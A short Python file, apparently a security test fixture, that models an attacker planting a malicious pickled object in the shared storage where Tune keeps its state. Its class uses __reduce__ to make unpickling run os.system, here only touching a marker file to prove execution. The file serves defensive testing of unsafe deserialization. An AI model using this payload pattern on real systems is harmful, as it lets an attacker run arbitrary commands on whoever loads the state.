"""What an attacker who can write the shared storage leaves where Tune keeps its state:
an object whose unpickling runs a command (it touches ``marker``)."""

import os


class Planted:
    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))
